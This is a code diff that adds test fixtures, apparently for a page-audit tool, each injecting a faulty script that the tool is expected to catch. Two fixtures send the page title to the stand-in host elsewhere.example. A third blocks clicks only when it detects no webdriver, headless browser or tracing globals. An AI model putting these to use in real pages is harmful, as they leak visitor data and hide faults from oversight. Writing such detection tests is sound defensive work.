@@ -267,6 +267,31 @@ export const brokenVersions: readonly BrokenVersion[] = [
     needsBrowser: true,
   },
   {
+    name: 'sends out the title by a window',
+    stop: 'rehearsal',
+    forge: inPage("open('http://elsewhere.example/?'+document.title)"),
+    words: /page squad \(da\) tries to leave the site: (?:a new window|http:\/\/elsewhere\.example)/,
+    needsBrowser: true,
+  },
+  {
+    name: 'sends out the title by a navigation',
+    stop: 'rehearsal',
+    forge: inPage(
+      "document.addEventListener('scroll',()=>{location='http://elsewhere.example/'},{once:true})",
+    ),
+    words: /page squad \(da\) tries to leave the site: http:\/\/elsewhere\.example/,
+    needsBrowser: true,
+  },
+  {
+    name: 'behaves well if it finds a sign that it is watched',
+    stop: 'rehearsal',
+    forge: inPage(
+      "if(!navigator.webdriver&&!/Headless/.test(navigator.userAgent)&&!Object.getOwnPropertyNames(globalThis).some((key)=>/rehears|trace|^__p/i.test(key)))document.addEventListener('click',(event)=>{event.preventDefault();event.stopImmediatePropagation()},true)",
+    ),
+    words: /page squad \(da\) (?:leaves listeners behind: click on document|blocks a link of the menu)/,
+    needsBrowser: true,
+  },
+  {
     name: 'is wider than a phone',
     stop: 'rehearsal',
     forge: inPage(
